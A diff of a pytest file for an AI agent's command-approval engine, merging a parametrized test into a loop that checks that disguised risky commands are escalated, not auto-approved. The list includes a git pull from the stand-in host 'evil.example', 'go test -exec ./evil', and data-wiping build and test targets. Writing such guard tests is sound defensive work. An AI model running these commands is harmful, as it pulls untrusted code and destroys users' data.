@@ -63,20 +63,8 @@ def test_a_supervised_session_runs_unasked_only_what_is_shown_to_read(
 
 
 @pytest.mark.requirement("B-24")
-@pytest.mark.parametrize(
-    "command",
-    [
-        "git fetch --prune --force --update-head-ok origin '+refs/heads/*:refs/heads/*'",
-        "git -C elsewhere fetch",
-        "git pull https://evil.example/x",
-        "pytest t --basetemp=DIR",
-        "make test clean",
-        "npm run test:wipe",
-        "go test -exec ./evil",
-    ],
-)
 def test_the_engine_approves_no_command_by_the_name_of_what_it_does(
-    installation: Installation, command: str
+    installation: Installation,
 ) -> None:
     document: Json = {
         **dict(orjson.loads(orjson.dumps(declared()))),
@@ -93,8 +81,11 @@ def test_the_engine_approves_no_command_by_the_name_of_what_it_does(
     here = str(installation.workspace)
     agent.call("run", {"command": "git status", "cwd": here})
     assert len(installation.received("box")) == 1
-    sent = len(installation.received("box"))
-    agent.call("run", {"command": command, "cwd": here})
-    assert len(installation.received("box")) == sent
-    engine = at(installation.outcomes()[-1], "engine")
-    assert at(engine, "verdict") == "escalate"
+    for command in (
+        "git fetch --prune --force --update-head-ok origin '+refs/heads/*:refs/heads/*'",
+        "git -C elsewhere fetch", "git pull https://evil.example/x", "pytest t --basetemp=DIR",
+        "make test clean", "npm run test:wipe", "go test -exec ./evil",
+    ):  # fmt: skip
+        agent.call("run", {"command": command, "cwd": here})
+        assert len(installation.received("box")) == 1, command
+        assert at(installation.outcomes()[-1], "engine", "verdict") == "escalate", command
